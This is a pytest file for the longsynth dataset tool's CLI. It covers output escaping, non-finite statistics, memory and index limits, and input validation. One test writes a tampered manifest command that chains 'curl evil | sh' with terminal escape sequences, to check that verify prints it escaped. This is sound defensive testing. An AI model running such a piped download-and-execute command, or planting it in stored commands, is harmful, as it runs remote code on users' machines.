"""The small things a hostile or new user met: a stored command printed with its escapes
shown, --data said to be ignored where it is, info on non-finite values."""
import json
import os

import numpy as np
import pytest
from click.testing import CliRunner

from longsynth import store
from longsynth.cli.main import cli


def test_verify_shows_a_crafted_command_escaped_and_does_not_tell_you_to_run_it(tmp_path):
    root = tmp_path / "d"
    store.generate(str(root), "cumsum", {"L": 32}, num_samples=120, shard_size=40, workers=1)
    path = root / "manifest.json"
    m = json.loads(path.read_text())
    m["command"] = "longsynth gen cumsum; curl evil | sh \x1b[2J\x1b]0;owned\x07"
    m["complete"] = False
    m["splits"]["train"]["shards"] = m["splits"]["train"]["shards"][:1]
    m["splits"]["train"]["digest"] = None
    path.write_text(json.dumps(m))
    r = CliRunner().invoke(cli, ["verify", str(root)])
    assert r.exit_code == 1 and "\x1b" not in r.output and "\x07" not in r.output, repr(r.output)
    assert "the command recorded in the manifest (check it before you run it): longsynth gen cumsum; curl evil | " \
           "sh \\x1b[2J\\x1b]0;owned\\x07" in r.output
    assert "rerun its gen command" not in r.output
    r = CliRunner().invoke(cli, ["info", str(root)])
    assert "\x1b" not in r.output and "made by (the command recorded in the manifest): longsynth gen" in r.output


def test_info_counts_nan_and_infinite_values_instead_of_warning(tmp_path, monkeypatch):
    from longsynth import stats as checks

    root = tmp_path / "d"
    store.generate(str(root), "cumsum", {"L": 32}, num_samples=60, workers=1)
    real = checks._Moments.add

    def poisoned(self, a):  # the values info reads, with a NaN and two infinities in them
        a = np.array(a, dtype=np.float64)
        if a.size > 3:
            a.flat[:3] = [np.nan, np.inf, -np.inf]
        real(self, a)

    monkeypatch.setattr(checks._Moments, "add", poisoned)
    with _no_warning():
        r = CliRunner().invoke(cli, ["info", str(root)])
    assert r.exit_code == 0, r.output
    line = next(x for x in r.output.splitlines() if x.strip().startswith("inputs"))
    assert "NaN" in line and "+inf" in line and "-inf" in line and "left out" in line
    assert "min inf" not in line and "max -inf" not in line
    s = store.info(str(root))
    st = s["stats"]["train"]["inputs"]  # per split (docs/format.md)
    assert st["nonfinite"]["NaN"] >= 1 and np.isfinite(st["mean"])


def _no_warning():
    import warnings

    class Guard:
        def __enter__(self):
            self.w = warnings.catch_warnings()
            self.w.__enter__()
            warnings.simplefilter("error", RuntimeWarning)

        def __exit__(self, *exc):
            return self.w.__exit__(*exc)

    return Guard()


def test_evaluate_says_when_data_is_ignored(tmp_path):
    pytest.importorskip("torch")
    import torch

    r = CliRunner().invoke(cli, ["evaluate", "dlr", "--suite", "cumsum", "--steps", "1", "--data", str(tmp_path),
                                 "--out", str(tmp_path / "rep")])
    torch.set_num_threads(1)
    assert r.exit_code == 0, r.output
    assert "--data is ignored for cumsum: it is generated on the fly" in r.output
    assert os.path.exists(tmp_path / "rep" / "report.md")


def test_batch_refuses_indices_sample_refuses():
    """batch(start=2^63 - 1, count=2) served index 2^63, which sample() refuses (and int64 cannot hold)."""
    import longsynth as ls
    from longsynth.errors import LongsynthError

    with pytest.raises(LongsynthError, match="pass the last index"):
        ls.batch("parity", 2**63 - 1, 2)
    assert ls.batch("parity", 2**63 - 1, 1)["inputs"].shape[0] == 1  # the last index itself is a sample



def test_a_batch_that_cannot_fit_in_memory_is_refused_before_it_is_allocated(monkeypatch):
    """batch() validated its indices, not what it allocates: 2**62 rows of cumsum were NumPy's ValueError ('array
    is too big') and 100,000 rows at L 65,536 its _ArrayMemoryError. Now one line naming the need, what is
    available and the rows that fit, before anything is allocated."""
    import longsynth as ls
    from longsynth import api
    from longsynth.errors import LongsynthError

    with pytest.raises(LongsynthError, match=r"count: 4,611,686,018,427,387,904 rows of cumsum need .* TB of memory "
                                             r"\(64 B a row\), .* available now; at most [\d,]+ rows fit"):
        ls.batch("cumsum", 0, 2**62, L=8)
    monkeypatch.setattr(api, "memory_available", lambda: 100 << 20)  # 100 MB left: 52 GB asked for
    with pytest.raises(LongsynthError, match=r"100,000 rows of cumsum need 52.4 GB .* 104.9 MB available now; at "
                                             r"most 200 rows fit"):
        ls.batch("cumsum", 0, 100_000, L=65536)
    assert ls.batch("cumsum", 0, 200, L=65536)["inputs"].shape == (200, 65536, 1)  # what fits is drawn

def test_verify_deep_counts_the_samples_it_regenerated(tmp_path):
    """--samples 1000000000 on a 35-sample dataset said "1000000000 samples per split regenerated"."""
    from click.testing import CliRunner

    from longsynth.cli.main import cli

    runner = CliRunner()
    d = tmp_path / "d"
    r = runner.invoke(cli, ["gen", "cumsum", "--L", "8", "--splits", "train=30,test=5", "--workers", "1", "-o", str(d)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(cli, ["verify", str(d), "--deep", "--samples", "1000000000"])
    assert r.exit_code == 0 and "35 of them regenerated and identical" in r.output, r.output
    r = runner.invoke(cli, ["verify", str(d), "--deep", "--samples", "4"])
    assert "8 of them regenerated" in r.output, r.output  # 4 of train, 4 of test


@pytest.mark.parametrize("n", [202, 100_000])
def test_gen_refuses_what_its_readers_would_refuse_before_writing(tmp_path, n):
    """--operators of 202 characters was written and reported done, then verify, info and open refused the folder;
    of 100,000, an HDF5 write error: the writer runs the readers' check before anything is written."""
    from click.testing import CliRunner

    from longsynth.cli.main import cli

    out = tmp_path / "d"
    r = CliRunner().invoke(cli, ["gen", "chomsky-modular-arithmetic", "--operators", ("+-*" * n)[:n], "-n", "10",
                                 "-o", str(out)])
    assert r.exit_code == 1 and "params.operators: longer than 200 characters" in r.output, r.output
    assert "Traceback" not in r.output and not out.exists()
